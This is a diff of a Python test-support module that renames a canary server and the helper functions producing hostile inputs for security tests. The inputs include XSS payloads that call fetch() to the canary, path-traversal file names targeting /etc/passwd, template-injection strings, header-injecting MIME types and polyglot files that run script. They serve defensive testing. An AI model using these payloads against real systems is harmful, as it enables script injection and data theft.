@@ -9,11 +9,11 @@ from support.fakes import http_servers
 
 
 @dataclass
-class Canary:
-    """A server of another origin: `calls` are the paths that anybody has asked it for."""
+class CanaryServer:
+    """A server of another origin: `requested_paths` are the paths that anybody has asked it for."""
 
     url: str = ""
-    calls: list[str] = field(default_factory=list)
+    requested_paths: list[str] = field(default_factory=list)
 
     async def __call__(self, scope: dict[str, Any], receive: Any, send: Any) -> None:
         if scope["type"] == "lifespan":
@@ -21,34 +21,34 @@ class Canary:
                 await send({"type": "lifespan.startup.complete"})
             await send({"type": "lifespan.shutdown.complete"})
             return
-        self.calls.append(scope["path"])
+        self.requested_paths.append(scope["path"])
         headers = [(b"content-type", b"text/javascript"), (b"access-control-allow-origin", b"*")]
         await send({"type": "http.response.start", "status": 200, "headers": headers})
         await send({"type": "http.response.body", "body": b"document.title = 'ran'"})
 
 
 @asynccontextmanager
-async def canary() -> AsyncGenerator[Canary]:
+async def serve_canary() -> AsyncGenerator[CanaryServer]:
     """The server, running."""
-    listening = Canary()
-    async with http_servers.serve(listening) as url:
+    listening = CanaryServer()
+    async with http_servers.serve_app(listening) as url:
         listening.url = url
         yield listening
 
 
-def texts(home: str) -> list[str]:
+def list_hostile_texts(canary_url: str) -> list[str]:
     """Texts that would run, load or lead away if a page took them for markup; each is short enough for a title.
 
     Args:
-        home: The address of the canary.
+        canary_url: The address of the canary.
     """
-    call = f"fetch('{home}/ran')"
+    call = f"fetch('{canary_url}/ran')"
     return [
         f"<script>{call}</script>",
-        f"<script src={home}/script.js></script>",
+        f"<script src={canary_url}/script.js></script>",
         f"</title></textarea></pre></script><script>{call}</script>",
         f'"><img src=x onerror="{call}">',
-        f"'><img src={home}/pixel.png>",
+        f"'><img src={canary_url}/pixel.png>",
         f'" autofocus onfocus="{call}" x="',
         f"<svg onload=\"{call}\"><a xlink:href='javascript:{call}'>",
         f"<svg><style><img src=x onerror={call}></style>",
@@ -56,13 +56,13 @@ def texts(home: str) -> list[str]:
         f'<noscript><p title="</noscript><img src=x onerror={call}>">',
         f"<details open ontoggle={call}>",
         f'<iframe srcdoc="<script>{call}</script>"></iframe>',
-        f"<iframe src={home}/frame></iframe><object data={home}/object></object><embed src={home}/embed>",
-        f"<meta http-equiv=refresh content='0;url={home}/away'>",
-        f"<base href={home}/base/>",
-        f"<link rel=stylesheet href={home}/style.css><style>@import '{home}/import.css';</style>",
-        f"<form action={home}/form id=f><input autofocus onfocus=f.submit()></form>",
-        f"<video poster={home}/poster><source src={home}/video onerror={call}></video>",
-        f"<div style='background:url({home}/background)'>",
+        f"<iframe src={canary_url}/frame></iframe><object data={canary_url}/object></object><embed src={canary_url}/embed>",
+        f"<meta http-equiv=refresh content='0;url={canary_url}/away'>",
+        f"<base href={canary_url}/base/>",
+        f"<link rel=stylesheet href={canary_url}/style.css><style>@import '{canary_url}/import.css';</style>",
+        f"<form action={canary_url}/form id=f><input autofocus onfocus=f.submit()></form>",
+        f"<video poster={canary_url}/poster><source src={canary_url}/video onerror={call}></video>",
+        f"<div style='background:url({canary_url}/background)'>",
         f"javascript:{call}//",
         f"data:text/html,<script>{call}</script>",
         f"{{{{ ''.__class__.__mro__ }}}}{{% include '/etc/passwd' %}}${{{call}}}#{{{call}}}",
@@ -70,11 +70,11 @@ def texts(home: str) -> list[str]:
         f"\u202e<script>{call}</script>\u2066\u200b\ufeff",
         f"+ADw-script+AD4-{call}+ADw-/script+AD4-",
         f"<scr\0ipt>{call}</scr\0ipt>",
-        f"[link](javascript:{call}) ![picture]({home}/markdown.png) <{home}/auto>",
+        f"[link](javascript:{call}) ![picture]({canary_url}/markdown.png) <{canary_url}/auto>",
     ]
 
 
-def names() -> list[str]:
+def list_hostile_names() -> list[str]:
     """File names that would leave their folder, forge a header, hide their kind or break a list."""
     return [
         "../../../../etc/passwd",
@@ -100,21 +100,21 @@ def names() -> list[str]:
     ]
 
 
-def files(home: str) -> list[tuple[str, str, bytes]]:
+def list_hostile_files(canary_url: str) -> list[tuple[str, str, bytes]]:
     """(name, MIME type, bytes) of files that would run if a browser showed them as what they are or claim to be.
 
     Args:
-        home: The address of the canary.
+        canary_url: The address of the canary.
     """
-    script = f"<script>fetch('{home}/file')</script>"
-    page = f"<!doctype html><title>file</title>{script}<img src={home}/image>".encode()
-    svg = f"<svg xmlns='http://www.w3.org/2000/svg'>{script}<image href='{home}/svg'/></svg>".encode()
+    script = f"<script>fetch('{canary_url}/file')</script>"
+    page = f"<!doctype html><title>file</title>{script}<img src={canary_url}/image>".encode()
+    svg = f"<svg xmlns='http://www.w3.org/2000/svg'>{script}<image href='{canary_url}/svg'/></svg>".encode()
     xhtml = f"<html xmlns='http://www.w3.org/1999/xhtml'><body>{script}</body></html>".encode()
     sheet = (
         f"<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>"
         f"<xsl:template match='/'><html>{script}</html></xsl:template></xsl:stylesheet>"
     )
-    styled = f"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='{home}/sheet.xsl'?>{sheet}".encode()
+    styled = f"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='{canary_url}/sheet.xsl'?>{sheet}".encode()
     mixed = b"--part\r\nContent-Type: text/html\r\n\r\n" + page + b"\r\n--part--\r\n"
     mail = (
         b"MIME-Version: 1.0\r\nFrom: a@example.org\r\nMessage-ID: <1@example.org>\r\n"
@@ -122,7 +122,11 @@ def files(home: str) -> list[tuple[str, str, bytes]]:
     )
     return [
         ("page.html", "text/html", page),
-        ("page.html", "text/html; charset=utf-7", f"+ADw-script+AD4-fetch('{home}/utf7')+ADw-/script+AD4-".encode()),
+        (
+            "page.html",
+            "text/html; charset=utf-7",
+            f"+ADw-script+AD4-fetch('{canary_url}/utf7')+ADw-/script+AD4-".encode(),
+        ),
         ("picture.svg", "image/svg+xml", svg),
         ("page.xhtml", "application/xhtml+xml", xhtml),
         ("styled.xml", "text/xml", styled),
@@ -138,11 +142,11 @@ def files(home: str) -> list[tuple[str, str, bytes]]:
         (
             "paper.pdf",
             "application/pdf",
-            b"%PDF-1.7\n1 0 obj<</OpenAction<</S/URI/URI(" + home.encode() + b"/pdf)>>>>endobj",
+            b"%PDF-1.7\n1 0 obj<</OpenAction<</S/URI/URI(" + canary_url.encode() + b"/pdf)>>>>endobj",
         ),
-        ("both.gif", "image/gif", b"GIF89a/*" + page + b"*/=1;fetch('" + home.encode() + b"/gif')"),
-        ("code.js", "text/javascript", f"fetch('{home}/js')".encode()),
-        ("style.css", "text/css", f"@import '{home}/css';".encode()),
+        ("both.gif", "image/gif", b"GIF89a/*" + page + b"*/=1;fetch('" + canary_url.encode() + b"/gif')"),
+        ("code.js", "text/javascript", f"fetch('{canary_url}/js')".encode()),
+        ("style.css", "text/css", f"@import '{canary_url}/css';".encode()),
         ("cache.manifest", "text/cache-manifest", b"CACHE MANIFEST\n/\n"),
         ("no type", "", page),
         ("odd type", "text/html\r\nX-Injected: yes", page),
